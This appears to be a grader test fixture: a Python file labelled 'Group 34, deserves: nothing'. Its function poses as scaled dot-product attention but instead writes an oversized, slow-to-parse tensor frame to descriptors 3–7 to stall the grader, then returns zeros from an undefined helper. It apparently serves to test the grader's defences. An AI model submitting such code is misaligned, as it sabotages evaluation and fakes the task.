"""Group 34. Sends tensors of thousands of axes, in an order that takes long to look at. Found later.

deserves: nothing
"""

import json
import os
import struct

from grader.wire.bounds import FRAME

AXES = 20_000


def scaled_dot_product_attention(q, k, v, mask=None):
    named = {str(i): {"dtype": "F32", "shape": [1] * AXES, "data_offsets": [4 * i, 4 * i + 4]} for i in range(4)}
    header = json.dumps(named).encode()
    block = struct.pack("<Q", len(header)) + header + bytes(16)
    order = list(range(AXES))[::-1]
    text = json.dumps({"index": 0, "value": {"list": [{"tensor": str(i), "order": order} for i in range(4)]}}).encode()
    frame = FRAME.pack(len(text), len(block)) + text + block
    for descriptor in range(3, 8):
        try:
            os.write(descriptor, frame)
        except OSError:
            pass
    return zeros(q, k, v, mask)
